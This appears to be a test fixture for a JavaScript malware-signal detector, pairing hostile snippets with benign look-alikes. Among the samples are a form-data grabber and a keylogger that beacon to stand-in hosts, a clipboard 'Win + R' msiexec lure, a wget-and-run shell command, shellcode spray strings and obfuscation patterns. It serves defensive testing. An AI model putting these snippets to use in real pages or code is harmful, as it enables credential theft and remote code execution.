import type { JS } from '../../../src/analysis/js/signals.ts';
import { many, type Pairs, within } from './pair.ts';

/** Two whole scripts. */
const script = within((piece) => piece);
const hex = (text: string) => [...text].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('');
const words = (times: number) => many(times, (index) => `some words ${index}`, ' ');
/** Beside it alone what speaks for a script counts. */
const PACKED = `'${many(300, (index) => ((index * 48_271) % 65_521).toString(36), '')}'`;
const numbers = many(160, (index) => String(32 + (index % 90)), ',');
const child = within((piece) => `require('child_process').exec('${piece}');`);

export const SHOWN_JS: Pairs<typeof JS> = {
  writeDecoded: script(
    "document.write(unescape('%3Cb%3E'));",
    "title = unescape('%3Cb%3E'); document.write('<b>');",
  ),
  fieldsSent: within(
    (address) =>
      `let s = ''; for (const f of document.querySelectorAll('input')) s += f.value; new Image().src = '${address}?' + btoa(s);`,
  )('https://files.example/a', '/a'),
  hiddenLinks: within(
    (place) =>
      `<div style="position:absolute;left:${place}"><a href="https://a.example">a</a><a href="https://b.example">b</a></div>`,
  )('-9999px', '10px'),
  shellcode: script(`s = '${'%u4141'.repeat(8)}';`, `s = '${'%u4141'.repeat(7)}';`),
  exploitKit: script(
    "new ActiveXObject(['ShockwaveFlash', 'AcroPDF', 'Silverlight', 'QuickTime', 'RealPlayer'][n]);",
    "p = ['ShockwaveFlash', 'AcroPDF', 'Silverlight', 'QuickTime', 'RealPlayer'];",
  ),
  keyLogger: within((then) => `document.onkeypress = (e) => { s += String.fromCharCode(e.which); ${then} };`)(
    "new Image().src = '//bad.example/a?' + s;",
    "new Image().src = '/a?' + s;",
  ),
  clipboardCommand: within(
    (command) => `navigator.clipboard.writeText('${command}'); show('Press Win + R');`,
  )(`msiexec /i ${'https'}://files.example/a`, 'msiexec /i a.msi'),
  nodeHostile: child('wget files.example/a && sh ./a', 'wget files.example/a && sha256sum ./a'),
  symbolsOnly: script(`${'(![]+[])[+[]]+'.repeat(8)}[]`, `s = [${'[1],[2],'.repeat(8)}];`),
  escapedTexts: script(
    `s = '${hex('nothing of interest in it at all')}';`,
    `s = '${hex('nothing at all')}';`,
  ),
  randomNames: script(
    'var q7f4zk, w3b9nq, p9d2kr, m4g6xw, h6v1cl, b8r5sd, k2l7qz, z5w3tp;',
    'var rgb2hsl, rgb2hsv, hsl2rgb, hsv2rgb, lab2xyz, xyz2lab, Int8Array, Int16Array;',
  ),
  codeNumbers: script(`s = String.fromCharCode(${numbers});`, `s = Math.max(${numbers});`),
  packedText: script(`s = ${PACKED};`, `s = '${words(60)}';`),
  conditional: script('/*@cc_on go(); @*/', '/* cc_on */ go();'),
  literalTests: script(
    `if (${many(6, (index) => `'a${index}' == 'b'`, ' || ')}) go();`,
    `if (${"'a' == 'b' || ".repeat(6)}x) go();`,
  ),
  junk: script("x = ('a', 'b');".repeat(9), "x = f('a', 'b');".repeat(9)),
  junkComments: script(`// ${words(160)}\ngo();`, `// Copyright ${words(160)}\ngo();`),
  program: script(`s = 'TVqQ${'A'.repeat(40)}';`, `s = 'TVqQ${'A'.repeat(20)}';`),
  library: script(`module.exports = ${PACKED};`, `window.go = ${PACKED};`),
  documented: script(`/** @param x ${words(20)} */ s = ${PACKED};`, `/** ${words(20)} */ s = ${PACKED};`),
};
